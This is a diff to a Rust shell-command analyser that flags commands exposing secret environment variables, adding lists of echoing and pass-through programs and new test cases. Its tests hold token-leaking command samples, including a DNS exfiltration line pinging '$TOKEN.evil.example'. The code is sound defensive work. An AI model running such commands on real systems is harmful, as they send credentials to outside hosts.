@@ -4,7 +4,8 @@ use super::reading::Reading;
 use super::sink::Sink;
 use crate::options::Given;
 use crate::run::Run;
-use crate::word::{Word, WordPart};
+use crate::variables::{is_name, leading_name, variables_in};
+use crate::word::Word;
 
 mod code;
 mod pipes;
@@ -12,11 +13,39 @@ mod pipes;
 use code::{in_code, in_filter};
 pub(crate) use pipes::behind_pipes;
 
+/// Programs that write their words, or tell them to others.
+const ECHO: &[&str] = &[
+    "echo",
+    "printf",
+    "print",
+    "basename",
+    "dirname",
+    "expr",
+    "seq",
+    "date",
+    "yes",
+    "figlet",
+    "toilet",
+    "banner",
+    "cowsay",
+    "logger",
+    "wall",
+    "notify-send",
+    "ping",
+    "nslookup",
+    "dig",
+    "host",
+    "awk",
+    "gawk",
+    "mawk",
+    "tr",
+];
+
 /// Programs that write what they read, or a part of it.
 const PASS: &[&str] = &[
-    "cat", "tee", "head", "tail", "sort", "uniq", "tr", "sed", "awk", "gawk", "mawk", "grep",
-    "cut", "base64", "xxd", "od", "hexdump", "rev", "tac", "nl", "fold", "less", "more", "bat",
-    "paste", "column", "strings",
+    "dd", "openssl", "gzip", "bzip2", "xz", "zstd", "cat", "tee", "head", "tail", "sort", "uniq",
+    "tr", "sed", "awk", "gawk", "mawk", "grep", "cut", "base64", "xxd", "od", "hexdump", "rev",
+    "tac", "nl", "fold", "less", "more", "bat", "paste", "column", "strings",
 ];
 
 /// What tells a program to show all variables: its words, with an option if one is needed.
@@ -50,9 +79,6 @@ pub(super) fn shown(reading: &Reading<'_>, sink: &mut Sink<'_>) {
         }
         "set" if run.args.is_empty() && !run.more_args => sink.show_variable(None),
         "export" | "declare" | "typeset" | "readonly" => listed(reading, sink),
-        "echo" | "printf" | "print" => {
-            run.args.iter().flat_map(variables_in).for_each(|name| sink.show_variable(name));
-        }
         "envsubst" => substituted(reading, sink),
         "ps" if shows_environments(run) => sink.show_variable(None),
         "cmake" if run.args.iter().map_while(Word::known).eq(["-E", "environment"]) => {
@@ -68,13 +94,13 @@ pub(super) fn shown(reading: &Reading<'_>, sink: &mut Sink<'_>) {
             let filters = reading.operands().take(if name == "yq" { 2 } else { 1 });
             filters.filter_map(Word::known).for_each(|code| in_filter(&code, sink));
         }
-        name if PASS.contains(&name) => {
-            let text = run.document.iter().flat_map(variables_in);
-            text.for_each(|name| sink.show_variable(name));
-        }
         name if shows_all(name, reading) => sink.show_variable(None),
         _ => {}
     }
+    let is_written = ECHO.contains(&name.as_ref()) || (name == "sed" && !changes_files(reading));
+    let words = run.args.iter().filter(|_| is_written);
+    let text = run.document.iter().filter(|_| PASS.contains(&name.as_ref()));
+    words.chain(text).flat_map(variables_in).for_each(|name| sink.show_variable(name));
     let prints = run
         .args
         .iter()
@@ -122,12 +148,6 @@ fn is_told(reading: &Reading<'_>, words: &[&str]) -> bool {
     words.iter().all(|word| operands.next().and_then(Word::known).as_deref() == Some(word))
 }
 
-/// The letters, digits and underscores at the beginning.
-fn leading_name(text: &str) -> &str {
-    let end = text.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(text.len());
-    text.split_at(end).0
-}
-
 /// Adds the folder that a variable names for what a program builds: it is written, or removed with all that is in it.
 pub(super) fn build_folder(reading: &Reading<'_>, sink: &mut Sink<'_>) {
     let run = sink.run;
@@ -141,6 +161,11 @@ pub(super) fn build_folder(reading: &Reading<'_>, sink: &mut Sink<'_>) {
         Some("clean") => sink.delete(folder, true),
         _ => sink.write(folder, true),
     }
+}
+
+/// `sed -i` writes into files.
+fn changes_files(reading: &Reading<'_>) -> bool {
+    ["i", "in-place"].iter().any(|name| reading.options(name).next().is_some())
 }
 
 /// `env -S 'A=1 make'`: the text is the command.
@@ -165,31 +190,6 @@ fn listed(reading: &Reading<'_>, sink: &mut Sink<'_>) {
 
 fn is_assignment(word: &Word) -> bool {
     word.known_prefix().split_once('=').is_some_and(|(name, _)| is_name(name))
-}
-
-/// The variables that stand in a word as `$NAME` or `${NAME…}`; `None` for one that is not known. Those that the line itself
-/// sets are known, and are no part of it any more. `${#NAME}` tells the length only, `${NAME:+x}` whether it is set.
-fn variables_in(word: &Word) -> impl Iterator<Item = Option<String>> {
-    word.parts.iter().filter_map(|part| {
-        let WordPart::Unknown { written, .. } = part else { return None };
-        let rest = written.strip_prefix('$')?;
-        let bare = rest.strip_prefix('{').unwrap_or(rest);
-        if let Some(pointer) = rest.strip_prefix("{!") {
-            // Names that begin so, and keys of a list.
-            let are_names =
-                pointer.ends_with("*}") || pointer.ends_with("@}") || pointer.contains('[');
-            return (!are_names).then_some(None);
-        }
-        let name = leading_name(bare);
-        let after = bare.get(name.len()..).unwrap_or_default();
-        let only_tests = after.starts_with(":+") || after.starts_with('+');
-        (is_name(name) && !only_tests).then(|| Some(name.to_owned()))
-    })
-}
-
-fn is_name(text: &str) -> bool {
-    text.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
-        && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
 }
 
 #[cfg(test)]
@@ -230,6 +230,14 @@ mod tests {
             ("echo '$TOKEN' | envsubst", "TOKEN"),
             ("envsubst '$A' < x", "A"),
             ("declare -p TOKEN", "TOKEN"),
+            ("X=$TOKEN printenv X", "TOKEN"),
+            ("env X=a$TOKEN printenv X", "TOKEN"),
+            ("X=$TOKEN python3 -c 'print(os.environ[\"X\"])'", "TOKEN"),
+            ("awk -v t=$TOKEN 'BEGIN{print t}'", "TOKEN"),
+            ("sed \"s/a/$TOKEN/\" x", "TOKEN"),
+            ("basename \"$TOKEN\"", "TOKEN"),
+            ("ping -c1 $TOKEN.evil.example", "TOKEN"),
+            ("openssl base64 <<< $TOKEN", "TOKEN"),
             ("make -p", "*"),
             ("make -pn | grep TOKEN", "TOKEN"),
             ("npm run env", "*"),
@@ -338,6 +346,9 @@ mod tests {
             "echo $TOKEN | gh auth login --with-token",
             "echo \"$TOKEN\" | gh secret set A",
             "python3 -c 'os.environ[\"A\"] = \"1\"'",
+            "X=1 printenv X",
+            "sed -i \"s/a/$TOKEN/\" x",
+            "npm publish --token $TOKEN",
             "sleep 9 & echo $!",
             "echo ${!AWS_*}",
             "echo ${!list[@]}",
